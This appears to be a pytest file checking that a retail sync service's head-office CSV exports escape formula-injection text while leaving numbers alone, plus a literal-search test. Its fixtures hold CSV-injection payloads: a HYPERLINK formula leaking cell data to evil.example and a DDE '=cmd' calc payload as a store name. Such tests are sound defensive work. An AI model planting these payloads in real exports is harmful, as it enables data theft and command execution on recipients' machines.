"""Head office's CSV exports run no formulas (issue 11, hole 6): store-supplied text — a SKU ``=HYPERLINK(...)``,
names, categories, location codes, order refs — leaves every export behind the hub's formula guard
(:mod:`hub.kernel.csvsafe`), while numbers (negative ones included) stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from hub.kernel.csvsafe import FORMULA_TRIGGERS, unguard_formula
from sync.central import ingest, office, stores
from sync.central.app import create_app
from sync.central.config import CentralConfig
from sync.central.db import make_engine
from sync.protocol import validate_batch
from tests.sync.test_sync_central_views import login

TS = "2026-11-20T10:00:00.000Z"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
HOSTILE = {HYPERLINK, "+1+1", "-2+3", "@SUM(1+1)", "\t=1", "=loc", "=A-1"}
# every export, with the filters that make each one list the hostile rows
EXPORTS = [
    "/?format=csv",
    "/stock?format=csv",
    "/stock?format=csv&q=HYPER",
    "/movements?format=csv&start=2020-01-01",
    "/low-stock?format=csv",
    "/low-stock?format=csv&table=transfers",
    "/counts?format=csv&start=2020-01-01",
    "/orders?format=csv&start=2020-01-01",
]


def _events(store: str) -> list[dict]:
    item = {
        "id": "i1",
        "sku": HYPERLINK,
        "name_en": "+1+1",
        "name_zh": "-2+3",
        "category": "@SUM(1+1)",
        "brand": "\t=1",
        "unit": "each",
        "price_minor": 100,
        "cost_minor": 50,
        "reorder_point": 50,
        "safety_stock": 0,
        "active": True,
    }
    return [
        {"kind": "item.upsert", "payload": item},
        {"kind": "location.upsert", "payload": {"id": "l1", "code": "=loc", "name": "=loc", "kind": "bin"}},
        {
            "kind": "movement",
            "payload": {
                "kind": "receive",
                "item_id": "i1",
                "location_id": "l1",
                "qty_delta": 300 if store == "s2" else 5,
                "reserved_delta": 0,
                "ts": TS,
            },
        },
        {
            "kind": "movement",
            "payload": {
                "kind": "sale",
                "item_id": "i1",
                "location_id": "l1",
                "qty_delta": -3,
                "reserved_delta": 0,
                "ts": TS,
            },
        },
        {
            "kind": "order.created",
            "payload": {
                "id": "o1",
                "ref": "=A-1",
                "channel": "web",
                "external_id": "=W-1",
                "status": "new",
                "fulfilment": "pickup",
                "currency": "CNY",
                "total_minor": 2500,
                "paid_minor": 2500,
                "parent_order_id": None,
                "split_kind": None,
                "created_at": TS,
                "lines": [{"id": "ol1", "line_no": 1, "item_id": "i1", "qty": 2, "unit_price_minor": 1250}],
            },
        },
        {
            "kind": "order.status",
            "payload": {
                "order_id": "o1",
                "ref": "=A-1",
                "from": "ready",
                "to": "collected",
                "actor": "u",
                "ts": "2026-11-20T11:00:00.000Z",
            },
        },
        {
            "kind": "count.approved",
            "payload": {
                "session_id": "=cs1",
                "approved_by": "=u",
                "ts": TS,
                "totals": {
                    "lines": 4,
                    "lines_exact": 3,
                    "lines_with_variance": 1,
                    "expected_units": 40,
                    "counted_units": 39,
                    "net_variance_units": -1,
                    "abs_variance_units": 1,
                    "shrink_cost_minor": -50,
                    "gain_cost_minor": 0,
                    "net_variance_cost_minor": -50,
                    "expected_cost_minor": 2000,
                    "line_accuracy_pct": 75.0,
                    "unit_accuracy_pct": 97.5,
                    "value_accuracy_pct": 97.5,
                    "movements": 1,
                },
            },
        },
    ]


@pytest.fixture
def central(tmp_path):
    engine = make_engine(f"sqlite:///{tmp_path / 'central.db'}")
    app = create_app(CentralConfig(data_dir=tmp_path / "c", testing=True), engine=engine)
    office.add_user(engine, "olivia", "office-pass-123", "viewer")
    for sid in ("s1", "s2"):
        stores.add_store(engine, sid, "=cmd|' /C calc'!A0")
        evs = [{"seq": n, "id": f"{sid}-{n}", "ts": TS, **e} for n, e in enumerate(_events(sid), start=1)]
        ingest.apply_batch(
            engine, sid, validate_batch({"store_id": sid, "after": 0, "through": len(evs), "events": evs}, sid)
        )
    yield app.test_client()
    engine.dispose()


def _is_number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


def test_every_export_guards_every_text_cell(central):
    login(central)
    seen: set[str] = set()
    for url in EXPORTS:
        resp = central.get(url)
        assert resp.status_code == 200 and resp.mimetype == "text/csv", url
        rows = list(csv.reader(io.StringIO(resp.get_data(as_text=True).lstrip("\ufeff"))))
        assert len(rows) > 1, url
        for row in rows[1:]:
            for cell in row:
                assert _is_number(cell) or not cell.startswith(FORMULA_TRIGGERS), (url, cell)
                seen.add(unguard_formula(cell))
    # the hostile values did reach the exports (guarded), so the check above looked at them
    assert {HYPERLINK, "=cmd|' /C calc'!A0"} <= seen
    stock = list(csv.DictReader(io.StringIO(central.get("/stock?format=csv").get_data(as_text=True).lstrip("\ufeff"))))
    assert {r["sku"] for r in stock} == {"'" + HYPERLINK}
    moves = central.get("/movements?format=csv&start=2020-01-01").get_data(as_text=True)
    assert ",-3" in moves and ",'-3" not in moves  # numbers are not text: no guard


def test_stock_search_takes_percent_and_underscore_literally(central):
    """Issue 11, hole 7: head office's item search escapes its LIKE pattern (hub.kernel.sqllike)."""
    login(central)

    def skus(q: str) -> list[str]:
        text = central.get("/stock", query_string={"format": "csv", "q": q}).get_data(as_text=True).lstrip("\ufeff")
        return [r["sku"] for r in csv.DictReader(io.StringIO(text))]

    assert skus("HYPER") == ["'" + HYPERLINK] * 2  # one row per store
    assert skus("%") == [] and skus("_") == [] and skus("H_PER") == []
